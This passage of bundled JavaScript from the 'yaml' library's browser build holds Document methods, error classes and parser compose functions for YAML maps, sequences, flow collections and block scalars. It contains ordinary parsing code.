      const asStr = replacer.filter(keyToStr).map(String);
      if (asStr.length > 0)
        replacer = replacer.concat(asStr);
      _replacer = replacer;
    } else if (options === void 0 && replacer) {
      options = replacer;
      replacer = void 0;
    }
    const { aliasDuplicateObjects, anchorPrefix, flow, keepUndefined, onTagObj, tag } = options ?? {};
    const { onAnchor, setAnchors, sourceObjects } = createNodeAnchors(
      this,
      // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
      anchorPrefix || "a"
    );
    const ctx = {
      aliasDuplicateObjects: aliasDuplicateObjects ?? true,
      keepUndefined: keepUndefined ?? false,
      onAnchor,
      onTagObj,
      replacer: _replacer,
      schema: this.schema,
      sourceObjects
    };
    const node = createNode(value, tag, ctx);
    if (flow && isCollection(node))
      node.flow = true;
    setAnchors();
    return node;
  }
  /**
   * Convert a key and a value into a `Pair` using the current schema,
   * recursively wrapping all values as `Scalar` or `Collection` nodes.
   */
  createPair(key, value, options = {}) {
    const k = this.createNode(key, null, options);
    const v2 = this.createNode(value, null, options);
    return new Pair(k, v2);
  }
  /**
   * Removes a value from the document.
   * @returns `true` if the item was found and removed.
   */
  delete(key) {
    return assertCollection(this.contents) ? this.contents.delete(key) : false;
  }
  /**
   * Removes a value from the document.
   * @returns `true` if the item was found and removed.
   */
  deleteIn(path) {
    if (isEmptyPath(path)) {
      if (this.contents == null)
        return false;
      this.contents = null;
      return true;
    }
    return assertCollection(this.contents) ? this.contents.deleteIn(path) : false;
  }
  /**
   * Returns item at `key`, or `undefined` if not found. By default unwraps
   * scalar values from their surrounding node; to disable set `keepScalar` to
   * `true` (collections are always returned intact).
   */
  get(key, keepScalar) {
    return isCollection(this.contents) ? this.contents.get(key, keepScalar) : void 0;
  }
  /**
   * Returns item at `path`, or `undefined` if not found. By default unwraps
   * scalar values from their surrounding node; to disable set `keepScalar` to
   * `true` (collections are always returned intact).
   */
  getIn(path, keepScalar) {
    if (isEmptyPath(path))
      return !keepScalar && isScalar(this.contents) ? this.contents.value : this.contents;
    return isCollection(this.contents) ? this.contents.getIn(path, keepScalar) : void 0;
  }
  /**
   * Checks if the document includes a value with the key `key`.
   */
  has(key) {
    return isCollection(this.contents) ? this.contents.has(key) : false;
  }
  /**
   * Checks if the document includes a value at `path`.
   */
  hasIn(path) {
    if (isEmptyPath(path))
      return this.contents !== void 0;
    return isCollection(this.contents) ? this.contents.hasIn(path) : false;
  }
  /**
   * Sets a value in this document. For `!!set`, `value` needs to be a
   * boolean to add/remove the item from the set.
   */
  set(key, value) {
    if (this.contents == null) {
      this.contents = collectionFromPath(this.schema, [key], value);
    } else if (assertCollection(this.contents)) {
      this.contents.set(key, value);
    }
  }
  /**
   * Sets a value in this document. For `!!set`, `value` needs to be a
   * boolean to add/remove the item from the set.
   */
  setIn(path, value) {
    if (isEmptyPath(path)) {
      this.contents = value;
    } else if (this.contents == null) {
      this.contents = collectionFromPath(this.schema, Array.from(path), value);
    } else if (assertCollection(this.contents)) {
      this.contents.setIn(path, value);
    }
  }
  /**
   * Change the YAML version and schema used by the document.
   * A `null` version disables support for directives, explicit tags, anchors, and aliases.
   * It also requires the `schema` option to be given as a `Schema` instance value.
   *
   * Overrides all previously set schema options.
   */
  setSchema(version2, options = {}) {
    if (typeof version2 === "number")
      version2 = String(version2);
    let opt;
    switch (version2) {
      case "1.1":
        if (this.directives)
          this.directives.yaml.version = "1.1";
        else
          this.directives = new Directives({ version: "1.1" });
        opt = { resolveKnownTags: false, schema: "yaml-1.1" };
        break;
      case "1.2":
      case "next":
        if (this.directives)
          this.directives.yaml.version = version2;
        else
          this.directives = new Directives({ version: version2 });
        opt = { resolveKnownTags: true, schema: "core" };
        break;
      case null:
        if (this.directives)
          delete this.directives;
        opt = null;
        break;
      default: {
        const sv = JSON.stringify(version2);
        throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${sv}`);
      }
    }
    if (options.schema instanceof Object)
      this.schema = options.schema;
    else if (opt)
      this.schema = new Schema(Object.assign(opt, options));
    else
      throw new Error(`With a null YAML version, the { schema: Schema } option is required`);
  }
  // json & jsonArg are only used from toJSON()
  toJS({ json, jsonArg, mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
    const ctx = {
      anchors: /* @__PURE__ */ new Map(),
      doc: this,
      keep: !json,
      mapAsMap: mapAsMap === true,
      mapKeyWarned: false,
      maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
    };
    const res = toJS(this.contents, jsonArg ?? "", ctx);
    if (typeof onAnchor === "function")
      for (const { count, res: res2 } of ctx.anchors.values())
        onAnchor(res2, count);
    return typeof reviver === "function" ? applyReviver(reviver, { "": res }, "", res) : res;
  }
  /**
   * A JSON representation of the document `contents`.
   *
   * @param jsonArg Used by `JSON.stringify` to indicate the array index or
   *   property name.
   */
  toJSON(jsonArg, onAnchor) {
    return this.toJS({ json: true, jsonArg, mapAsMap: false, onAnchor });
  }
  /** A YAML representation of the document. */
  toString(options = {}) {
    if (this.errors.length > 0)
      throw new Error("Document with errors cannot be stringified");
    if ("indent" in options && (!Number.isInteger(options.indent) || Number(options.indent) <= 0)) {
      const s = JSON.stringify(options.indent);
      throw new Error(`"indent" option must be a positive integer, not ${s}`);
    }
    return stringifyDocument(this, options);
  }
};
function assertCollection(contents) {
  if (isCollection(contents))
    return true;
  throw new Error("Expected a YAML collection as document contents");
}

// node_modules/yaml/browser/dist/errors.js
var YAMLError = class extends Error {
  constructor(name, pos, code, message) {
    super();
    this.name = name;
    this.code = code;
    this.message = message;
    this.pos = pos;
  }
};
var YAMLParseError = class extends YAMLError {
  constructor(pos, code, message) {
    super("YAMLParseError", pos, code, message);
  }
};
var YAMLWarning = class extends YAMLError {
  constructor(pos, code, message) {
    super("YAMLWarning", pos, code, message);
  }
};
var prettifyError = (src, lc) => (error) => {
  if (error.pos[0] === -1)
    return;
  error.linePos = error.pos.map((pos) => lc.linePos(pos));
  const { line, col } = error.linePos[0];
  error.message += ` at line ${line}, column ${col}`;
  let ci = col - 1;
  let lineStr = src.substring(lc.lineStarts[line - 1], lc.lineStarts[line]).replace(/[\n\r]+$/, "");
  if (ci >= 60 && lineStr.length > 80) {
    const trimStart = Math.min(ci - 39, lineStr.length - 79);
    lineStr = "…" + lineStr.substring(trimStart);
    ci -= trimStart - 1;
  }
  if (lineStr.length > 80)
    lineStr = lineStr.substring(0, 79) + "…";
  if (line > 1 && /^ *$/.test(lineStr.substring(0, ci))) {
    let prev = src.substring(lc.lineStarts[line - 2], lc.lineStarts[line - 1]);
    if (prev.length > 80)
      prev = prev.substring(0, 79) + "…\n";
    lineStr = prev + lineStr;
  }
  if (/[^ ]/.test(lineStr)) {
    let count = 1;
    const end = error.linePos[1];
    if (end?.line === line && end.col > col) {
      count = Math.max(1, Math.min(end.col - col, 80 - ci));
    }
    const pointer = " ".repeat(ci) + "^".repeat(count);
    error.message += `:

${lineStr}
${pointer}
`;
  }
};

// node_modules/yaml/browser/dist/compose/resolve-props.js
function resolveProps(tokens, { flow, indicator, next, offset, onError, parentIndent, startOnNewline }) {
  let spaceBefore = false;
  let atNewline = startOnNewline;
  let hasSpace = startOnNewline;
  let comment = "";
  let commentSep = "";
  let hasNewline = false;
  let reqSpace = false;
  let tab = null;
  let anchor = null;
  let tag = null;
  let newlineAfterProp = null;
  let comma = null;
  let found = null;
  let start = null;
  for (const token of tokens) {
    if (reqSpace) {
      if (token.type !== "space" && token.type !== "newline" && token.type !== "comma")
        onError(token.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
      reqSpace = false;
    }
    if (tab) {
      if (atNewline && token.type !== "comment" && token.type !== "newline") {
        onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
      }
      tab = null;
    }
    switch (token.type) {
      case "space":
        if (!flow && (indicator !== "doc-start" || next?.type !== "flow-collection") && token.source.includes("	")) {
          tab = token;
        }
        hasSpace = true;
        break;
      case "comment": {
        if (!hasSpace)
          onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
        const cb = token.source.substring(1) || " ";
        if (!comment)
          comment = cb;
        else
          comment += commentSep + cb;
        commentSep = "";
        atNewline = false;
        break;
      }
      case "newline":
        if (atNewline) {
          if (comment)
            comment += token.source;
          else if (!found || indicator !== "seq-item-ind")
            spaceBefore = true;
        } else
          commentSep += token.source;
        atNewline = true;
        hasNewline = true;
        if (anchor || tag)
          newlineAfterProp = token;
        hasSpace = true;
        break;
      case "anchor":
        if (anchor)
          onError(token, "MULTIPLE_ANCHORS", "A node can have at most one anchor");
        if (token.source.endsWith(":"))
          onError(token.offset + token.source.length - 1, "BAD_ALIAS", "Anchor ending in : is ambiguous", true);
        anchor = token;
        start ?? (start = token.offset);
        atNewline = false;
        hasSpace = false;
        reqSpace = true;
        break;
      case "tag": {
        if (tag)
          onError(token, "MULTIPLE_TAGS", "A node can have at most one tag");
        tag = token;
        start ?? (start = token.offset);
        atNewline = false;
        hasSpace = false;
        reqSpace = true;
        break;
      }
      case indicator:
        if (anchor || tag)
          onError(token, "BAD_PROP_ORDER", `Anchors and tags must be after the ${token.source} indicator`);
        if (found)
          onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.source} in ${flow ?? "collection"}`);
        found = token;
        atNewline = indicator === "seq-item-ind" || indicator === "explicit-key-ind";
        hasSpace = false;
        break;
      case "comma":
        if (flow) {
          if (comma)
            onError(token, "UNEXPECTED_TOKEN", `Unexpected , in ${flow}`);
          comma = token;
          atNewline = false;
          hasSpace = false;
          break;
        }
      // else fallthrough
      default:
        onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.type} token`);
        atNewline = false;
        hasSpace = false;
    }
  }
  const last = tokens[tokens.length - 1];
  const end = last ? last.offset + last.source.length : offset;
  if (reqSpace && next && next.type !== "space" && next.type !== "newline" && next.type !== "comma" && (next.type !== "scalar" || next.source !== "")) {
    onError(next.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
  }
  if (tab && (atNewline && tab.indent <= parentIndent || next?.type === "block-map" || next?.type === "block-seq"))
    onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
  return {
    comma,
    found,
    spaceBefore,
    comment,
    hasNewline,
    anchor,
    tag,
    newlineAfterProp,
    end,
    start: start ?? end
  };
}

// node_modules/yaml/browser/dist/compose/util-contains-newline.js
function containsNewline(key) {
  if (!key)
    return null;
  switch (key.type) {
    case "alias":
    case "scalar":
    case "double-quoted-scalar":
    case "single-quoted-scalar":
      if (key.source.includes("\n"))
        return true;
      if (key.end) {
        for (const st of key.end)
          if (st.type === "newline")
            return true;
      }
      return false;
    case "flow-collection":
      for (const it of key.items) {
        for (const st of it.start)
          if (st.type === "newline")
            return true;
        if (it.sep) {
          for (const st of it.sep)
            if (st.type === "newline")
              return true;
        }
        if (containsNewline(it.key) || containsNewline(it.value))
          return true;
      }
      return false;
    default:
      return true;
  }
}

// node_modules/yaml/browser/dist/compose/util-flow-indent-check.js
function flowIndentCheck(indent, fc, onError) {
  if (fc?.type === "flow-collection") {
    const end = fc.end[0];
    if (end.indent === indent && (end.source === "]" || end.source === "}") && containsNewline(fc)) {
      const msg = "Flow end indicator should be more indented than parent";
      onError(end, "BAD_INDENT", msg, true);
    }
  }
}

// node_modules/yaml/browser/dist/compose/util-map-includes.js
function mapIncludes(ctx, items, search) {
  const { uniqueKeys } = ctx.options;
  if (uniqueKeys === false)
    return false;
  const isEqual = typeof uniqueKeys === "function" ? uniqueKeys : (a, b) => a === b || isScalar(a) && isScalar(b) && a.value === b.value;
  return items.some((pair) => isEqual(pair.key, search));
}

// node_modules/yaml/browser/dist/compose/resolve-block-map.js
var startColMsg = "All mapping items must start at the same column";
function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeEmptyNode2 }, ctx, bm, onError, tag) {
  const NodeClass = tag?.nodeClass ?? YAMLMap;
  const map2 = new NodeClass(ctx.schema);
  if (ctx.atRoot)
    ctx.atRoot = false;
  let offset = bm.offset;
  let commentEnd = null;
  for (const collItem of bm.items) {
    const { start, key, sep: sep5, value } = collItem;
    const keyProps = resolveProps(start, {
      indicator: "explicit-key-ind",
      next: key ?? sep5?.[0],
      offset,
      onError,
      parentIndent: bm.indent,
      startOnNewline: true
    });
    const implicitKey = !keyProps.found;
    if (implicitKey) {
      if (key) {
        if (key.type === "block-seq")
          onError(offset, "BLOCK_AS_IMPLICIT_KEY", "A block sequence may not be used as an implicit map key");
        else if ("indent" in key && key.indent !== bm.indent)
          onError(offset, "BAD_INDENT", startColMsg);
      }
      if (!keyProps.anchor && !keyProps.tag && !sep5) {
        commentEnd = keyProps.end;
        if (keyProps.comment) {
          if (map2.comment)
            map2.comment += "\n" + keyProps.comment;
          else
            map2.comment = keyProps.comment;
        }
        continue;
      }
      if (keyProps.newlineAfterProp || containsNewline(key)) {
        onError(key ?? start[start.length - 1], "MULTILINE_IMPLICIT_KEY", "Implicit keys need to be on a single line");
      }
    } else if (keyProps.found?.indent !== bm.indent) {
      onError(offset, "BAD_INDENT", startColMsg);
    }
    ctx.atKey = true;
    const keyStart2 = keyProps.end;
    const keyNode = key ? composeNode2(ctx, key, keyProps, onError) : composeEmptyNode2(ctx, keyStart2, start, null, keyProps, onError);
    if (ctx.schema.compat)
      flowIndentCheck(bm.indent, key, onError);
    ctx.atKey = false;
    if (mapIncludes(ctx, map2.items, keyNode))
      onError(keyStart2, "DUPLICATE_KEY", "Map keys must be unique");
    const valueProps = resolveProps(sep5 ?? [], {
      indicator: "map-value-ind",
      next: value,
      offset: keyNode.range[2],
      onError,
      parentIndent: bm.indent,
      startOnNewline: !key || key.type === "block-scalar"
    });
    offset = valueProps.end;
    if (valueProps.found) {
      if (implicitKey) {
        if (value?.type === "block-map" && !valueProps.hasNewline)
          onError(offset, "BLOCK_AS_IMPLICIT_KEY", "Nested mappings are not allowed in compact mappings");
        if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
          onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
      }
      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : composeEmptyNode2(ctx, offset, sep5, null, valueProps, onError);
      if (ctx.schema.compat)
        flowIndentCheck(bm.indent, value, onError);
      offset = valueNode.range[2];
      const pair = new Pair(keyNode, valueNode);
      if (ctx.options.keepSourceTokens)
        pair.srcToken = collItem;
      map2.items.push(pair);
    } else {
      if (implicitKey)
        onError(keyNode.range, "MISSING_CHAR", "Implicit map keys need to be followed by map values");
      if (valueProps.comment) {
        if (keyNode.comment)
          keyNode.comment += "\n" + valueProps.comment;
        else
          keyNode.comment = valueProps.comment;
      }
      const pair = new Pair(keyNode);
      if (ctx.options.keepSourceTokens)
        pair.srcToken = collItem;
      map2.items.push(pair);
    }
  }
  if (commentEnd && commentEnd < offset)
    onError(commentEnd, "IMPOSSIBLE", "Map comment with trailing content");
  map2.range = [bm.offset, offset, commentEnd ?? offset];
  return map2;
}

// node_modules/yaml/browser/dist/compose/resolve-block-seq.js
function resolveBlockSeq({ composeNode: composeNode2, composeEmptyNode: composeEmptyNode2 }, ctx, bs, onError, tag) {
  const NodeClass = tag?.nodeClass ?? YAMLSeq;
  const seq2 = new NodeClass(ctx.schema);
  if (ctx.atRoot)
    ctx.atRoot = false;
  if (ctx.atKey)
    ctx.atKey = false;
  let offset = bs.offset;
  let commentEnd = null;
  for (const { start, value } of bs.items) {
    const props = resolveProps(start, {
      indicator: "seq-item-ind",
      next: value,
      offset,
      onError,
      parentIndent: bs.indent,
      startOnNewline: true
    });
    if (!props.found) {
      if (props.anchor || props.tag || value) {
        if (value?.type === "block-seq")
          onError(props.end, "BAD_INDENT", "All sequence items must start at the same column");
        else
          onError(offset, "MISSING_CHAR", "Sequence item without - indicator");
      } else {
        commentEnd = props.end;
        if (props.comment)
          seq2.comment = props.comment;
        continue;
      }
    }
    const node = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, start, null, props, onError);
    if (ctx.schema.compat)
      flowIndentCheck(bs.indent, value, onError);
    offset = node.range[2];
    seq2.items.push(node);
  }
  seq2.range = [bs.offset, offset, commentEnd ?? offset];
  return seq2;
}

// node_modules/yaml/browser/dist/compose/resolve-end.js
function resolveEnd(end, offset, reqSpace, onError) {
  let comment = "";
  if (end) {
    let hasSpace = false;
    let sep5 = "";
    for (const token of end) {
      const { source, type } = token;
      switch (type) {
        case "space":
          hasSpace = true;
          break;
        case "comment": {
          if (reqSpace && !hasSpace)
            onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
          const cb = source.substring(1) || " ";
          if (!comment)
            comment = cb;
          else
            comment += sep5 + cb;
          sep5 = "";
          break;
        }
        case "newline":
          if (comment)
            sep5 += source;
          hasSpace = true;
          break;
        default:
          onError(token, "UNEXPECTED_TOKEN", `Unexpected ${type} at node end`);
      }
      offset += source.length;
    }
  }
  return { comment, offset };
}

// node_modules/yaml/browser/dist/compose/resolve-flow-collection.js
var blockMsg = "Block collections are not allowed within flow collections";
var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: composeEmptyNode2 }, ctx, fc, onError, tag) {
  const isMap2 = fc.start.source === "{";
  const fcName = isMap2 ? "flow map" : "flow sequence";
  const NodeClass = tag?.nodeClass ?? (isMap2 ? YAMLMap : YAMLSeq);
  const coll = new NodeClass(ctx.schema);
  coll.flow = true;
  const atRoot = ctx.atRoot;
  if (atRoot)
    ctx.atRoot = false;
  if (ctx.atKey)
    ctx.atKey = false;
  let offset = fc.offset + fc.start.source.length;
  for (let i = 0; i < fc.items.length; ++i) {
    const collItem = fc.items[i];
    const { start, key, sep: sep5, value } = collItem;
    const props = resolveProps(start, {
      flow: fcName,
      indicator: "explicit-key-ind",
      next: key ?? sep5?.[0],
      offset,
      onError,
      parentIndent: fc.indent,
      startOnNewline: false
    });
    if (!props.found) {
      if (!props.anchor && !props.tag && !sep5 && !value) {
        if (i === 0 && props.comma)
          onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
        else if (i < fc.items.length - 1)
          onError(props.start, "UNEXPECTED_TOKEN", `Unexpected empty item in ${fcName}`);
        if (props.comment) {
          if (coll.comment)
            coll.comment += "\n" + props.comment;
          else
            coll.comment = props.comment;
        }
        offset = props.end;
        continue;
      }
      if (!isMap2 && ctx.options.strict && containsNewline(key))
        onError(
          key,
          // checked by containsNewline()
          "MULTILINE_IMPLICIT_KEY",
          "Implicit keys of flow sequence pairs need to be on a single line"
        );
    }
    if (i === 0) {
      if (props.comma)
        onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
    } else {
      if (!props.comma)
        onError(props.start, "MISSING_CHAR", `Missing , between ${fcName} items`);
      if (props.comment) {
        let prevItemComment = "";
        loop: for (const st of start) {
          switch (st.type) {
            case "comma":
            case "space":
              break;
            case "comment":
              prevItemComment = st.source.substring(1);
              break loop;
            default:
              break loop;
          }
        }
        if (prevItemComment) {
          let prev = coll.items[coll.items.length - 1];
          if (isPair(prev))
            prev = prev.value ?? prev.key;
          if (prev.comment)
            prev.comment += "\n" + prevItemComment;
          else
            prev.comment = prevItemComment;
          props.comment = props.comment.substring(prevItemComment.length + 1);
        }
      }
    }
    if (!isMap2 && !sep5 && !props.found) {
      const valueNode = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, sep5, null, props, onError);
      coll.items.push(valueNode);
      offset = valueNode.range[2];
      if (isBlock(value))
        onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
    } else {
      ctx.atKey = true;
      const keyStart2 = props.end;
      const keyNode = key ? composeNode2(ctx, key, props, onError) : composeEmptyNode2(ctx, keyStart2, start, null, props, onError);
      if (isBlock(key))
        onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
      ctx.atKey = false;
      const valueProps = resolveProps(sep5 ?? [], {
        flow: fcName,
        indicator: "map-value-ind",
        next: value,
        offset: keyNode.range[2],
        onError,
        parentIndent: fc.indent,
        startOnNewline: false
      });
      if (valueProps.found) {
        if (!isMap2 && !props.found && ctx.options.strict) {
          if (sep5)
            for (const st of sep5) {
              if (st === valueProps.found)
                break;
              if (st.type === "newline") {
                onError(st, "MULTILINE_IMPLICIT_KEY", "Implicit keys of flow sequence pairs need to be on a single line");
                break;
              }
            }
          if (props.start < valueProps.found.offset - 1024)
            onError(valueProps.found, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit flow sequence key");
        }
      } else if (value) {
        if ("source" in value && value.source?.[0] === ":")
          onError(value, "MISSING_CHAR", `Missing space after : in ${fcName}`);
        else
          onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
      }
      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode2(ctx, valueProps.end, sep5, null, valueProps, onError) : null;
      if (valueNode) {
        if (isBlock(value))
          onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
      } else if (valueProps.comment) {
        if (keyNode.comment)
          keyNode.comment += "\n" + valueProps.comment;
        else
          keyNode.comment = valueProps.comment;
      }
      const pair = new Pair(keyNode, valueNode);
      if (ctx.options.keepSourceTokens)
        pair.srcToken = collItem;
      if (isMap2) {
        const map2 = coll;
        if (mapIncludes(ctx, map2.items, keyNode))
          onError(keyStart2, "DUPLICATE_KEY", "Map keys must be unique");
        map2.items.push(pair);
      } else {
        const map2 = new YAMLMap(ctx.schema);
        map2.flow = true;
        map2.items.push(pair);
        const endRange = (valueNode ?? keyNode).range;
        map2.range = [keyNode.range[0], endRange[1], endRange[2]];
        coll.items.push(map2);
      }
      offset = valueNode ? valueNode.range[2] : valueProps.end;
    }
  }
  const expectedEnd = isMap2 ? "}" : "]";
  const [ce, ...ee] = fc.end;
  let cePos = offset;
  if (ce?.source === expectedEnd)
    cePos = ce.offset + ce.source.length;
  else {
    const name = fcName[0].toUpperCase() + fcName.substring(1);
    const msg = atRoot ? `${name} must end with a ${expectedEnd}` : `${name} in block collection must be sufficiently indented and end with a ${expectedEnd}`;
    onError(offset, atRoot ? "MISSING_CHAR" : "BAD_INDENT", msg);
    if (ce && ce.source.length !== 1)
      ee.unshift(ce);
  }
  if (ee.length > 0) {
    const end = resolveEnd(ee, cePos, ctx.options.strict, onError);
    if (end.comment) {
      if (coll.comment)
        coll.comment += "\n" + end.comment;
      else
        coll.comment = end.comment;
    }
    coll.range = [fc.offset, cePos, end.offset];
  } else {
    coll.range = [fc.offset, cePos, cePos];
  }
  return coll;
}

// node_modules/yaml/browser/dist/compose/compose-collection.js
function resolveCollection(CN2, ctx, token, onError, tagName, tag) {
  const coll = token.type === "block-map" ? resolveBlockMap(CN2, ctx, token, onError, tag) : token.type === "block-seq" ? resolveBlockSeq(CN2, ctx, token, onError, tag) : resolveFlowCollection(CN2, ctx, token, onError, tag);
  const Coll = coll.constructor;
  if (tagName === "!" || tagName === Coll.tagName) {
    coll.tag = Coll.tagName;
    return coll;
  }
  if (tagName)
    coll.tag = tagName;
  return coll;
}
function composeCollection(CN2, ctx, token, props, onError) {
  const tagToken = props.tag;
  const tagName = !tagToken ? null : ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg));
  if (token.type === "block-seq") {
    const { anchor, newlineAfterProp: nl } = props;
    const lastProp = anchor && tagToken ? anchor.offset > tagToken.offset ? anchor : tagToken : anchor ?? tagToken;
    if (lastProp && (!nl || nl.offset < lastProp.offset)) {
      const message = "Missing newline after block sequence props";
      onError(lastProp, "MISSING_CHAR", message);
    }
  }
  const expType = token.type === "block-map" ? "map" : token.type === "block-seq" ? "seq" : token.start.source === "{" ? "map" : "seq";
  if (!tagToken || !tagName || tagName === "!" || tagName === YAMLMap.tagName && expType === "map" || tagName === YAMLSeq.tagName && expType === "seq") {
    return resolveCollection(CN2, ctx, token, onError, tagName);
  }
  let tag = ctx.schema.tags.find((t) => t.tag === tagName && t.collection === expType);
  if (!tag) {
    const kt = ctx.schema.knownTags[tagName];
    if (kt?.collection === expType) {
      ctx.schema.tags.push(Object.assign({}, kt, { default: false }));
      tag = kt;
    } else {
      if (kt) {
        onError(tagToken, "BAD_COLLECTION_TYPE", `${kt.tag} used for ${expType} collection, but expects ${kt.collection ?? "scalar"}`, true);
      } else {
        onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, true);
      }
      return resolveCollection(CN2, ctx, token, onError, tagName);
    }
  }
  const coll = resolveCollection(CN2, ctx, token, onError, tagName, tag);
  const res = tag.resolve?.(coll, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg), ctx.options) ?? coll;
  const node = isNode(res) ? res : new Scalar(res);
  node.range = coll.range;
  node.tag = tagName;
  if (tag?.format)
    node.format = tag.format;
  return node;
}

// node_modules/yaml/browser/dist/compose/resolve-block-scalar.js
function resolveBlockScalar(ctx, scalar, onError) {
  const start = scalar.offset;
  const header = parseBlockScalarHeader(scalar, ctx.options.strict, onError);
  if (!header)
    return { value: "", type: null, comment: "", range: [start, start, start] };
  const type = header.mode === ">" ? Scalar.BLOCK_FOLDED : Scalar.BLOCK_LITERAL;
  const lines = scalar.source ? splitLines(scalar.source) : [];
  let chompStart = lines.length;
  for (let i = lines.length - 1; i >= 0; --i) {
    const content = lines[i][1];
    if (content === "" || content === "\r")
      chompStart = i;
    else
      break;
  }
  if (chompStart === 0) {
    const value2 = header.chomp === "+" && lines.length > 0 ? "\n".repeat(Math.max(1, lines.length - 1)) : "";
    let end2 = start + header.length;
    if (scalar.source)
      end2 += scalar.source.length;
    return { value: value2, type, comment: header.comment, range: [start, end2, end2] };
  }
  let trimIndent = scalar.indent + header.indent;
  let offset = scalar.offset + header.length;
  let contentStart = 0;
  for (let i = 0; i < chompStart; ++i) {
    const [indent, content] = lines[i];
    if (content === "" || content === "\r") {
      if (header.indent === 0 && indent.length > trimIndent)
        trimIndent = indent.length;
    } else {
      if (indent.length < trimIndent) {
        const message = "Block scalars with more-indented leading empty lines must use an explicit indentation indicator";
        onError(offset + indent.length, "MISSING_CHAR", message);
      }
      if (header.indent === 0)
        trimIndent = indent.length;
      contentStart = i;
      if (trimIndent === 0 && !ctx.atRoot) {
        const message = "Block scalar values in collections must be indented";
        onError(offset, "BAD_INDENT", message);
      }
      break;
    }
    offset += indent.length + content.length + 1;
  }
  for (let i = lines.length - 1; i >= chompStart; --i) {
    if (lines[i][0].length > trimIndent)
      chompStart = i + 1;
  }
  let value = "";
  let sep5 = "";
  let prevMoreIndented = false;
  for (let i = 0; i < contentStart; ++i)
    value += lines[i][0].slice(trimIndent) + "\n";
  for (let i = contentStart; i < chompStart; ++i) {
    let [indent, content] = lines[i];
    offset += indent.length + content.length + 1;
    const crlf = content[content.length - 1] === "\r";
    if (crlf)
      content = content.slice(0, -1);
    if (content && indent.length < trimIndent) {
      const src = header.indent ? "explicit indentation indicator" : "first line";
      const message = `Block scalar lines must not be less indented than their ${src}`;
      onError(offset - content.length - (crlf ? 2 : 1), "BAD_INDENT", message);
      indent = "";
    }
    if (type === Scalar.BLOCK_LITERAL) {
      value += sep5 + indent.slice(trimIndent) + content;
      sep5 = "\n";
    } else if (indent.length > trimIndent || content[0] === "	") {
      if (sep5 === " ")
        sep5 = "\n";
      else if (!prevMoreIndented && sep5 === "\n")
        sep5 = "\n\n";
      value += sep5 + indent.slice(trimIndent) + content;
      sep5 = "\n";
      prevMoreIndented = true;
    } else if (content === "") {
      if (sep5 === "\n")
        value += "\n";
      else
        sep5 = "\n";
    } else {
      value += sep5 + content;
      sep5 = " ";
      prevMoreIndented = false;
    }
  }
  switch (header.chomp) {
    case "-":
      break;
    case "+":
      for (let i = chompStart; i < lines.length; ++i)
        value += "\n" + lines[i][0].slice(trimIndent);
      if (value[value.length - 1] !== "\n")
        value += "\n";
      break;
    default:
      value += "\n";
  }
  const end = start + header.length + scalar.source.length;
  return { value, type, comment: header.comment, range: [start, end, end] };
}
function parseBlockScalarHeader({ offset, props }, strict, onError) {
  if (props[0].type !== "block-scalar-header") {
    onError(props[0], "IMPOSSIBLE", "Block scalar header not found");
    return null;
  }
  const { source } = props[0];
  const mode = source[0];
  let indent = 0;
  let chomp = "";
  let error = -1;
  for (let i = 1; i < source.length; ++i) {
    const ch = source[i];
    if (!chomp && (ch === "-" || ch === "+"))
      chomp = ch;
    else {
      const n = Number(ch);
      if (!indent && n)
        indent = n;
      else if (error === -1)
        error = offset + i;
    }
  }
  if (error !== -1)
    onError(error, "UNEXPECTED_TOKEN", `Block scalar header includes extra characters: ${source}`);
  let hasSpace = false;
  let comment = "";
  let length = source.length;
  for (let i = 1; i < props.length; ++i) {
    const token = props[i];
    switch (token.type) {
      case "space":
        hasSpace = true;
      // fallthrough
      case "newline":
        length += token.source.length;
        break;
      case "comment":
        if (strict && !hasSpace) {
          const message = "Comments must be separated from other tokens by white space characters";
          onError(token, "MISSING_CHAR", message);
        }
        length += token.source.length;
        comment = token.source.substring(1);
        break;
      case "error":
        onError(token, "UNEXPECTED_TOKEN", token.message);
        length += token.source.length;
        break;
      /* istanbul ignore next should not happen */
      default: {
        const message = `Unexpected token in block scalar header: ${token.type}`;
        onError(token, "UNEXPECTED_TOKEN", message);
        const ts = token.source;
        if (ts && typeof ts === "string")
          length += ts.length;
      }
    }
  }
  return { mode, indent, chomp, comment, length };
}
function splitLines(source) {
  const split = source.split(/\n( *)/);
  const first = split[0];
  const m = first.match(/^( *)/);
  const line0 = m?.[1] ? [m[1], first.slice(m[1].length)] : ["", first];
  const lines = [line0];
  for (let i = 1; i < split.length; i += 2)
    lines.push([split[i], split[i + 1]]);
  return lines;
}

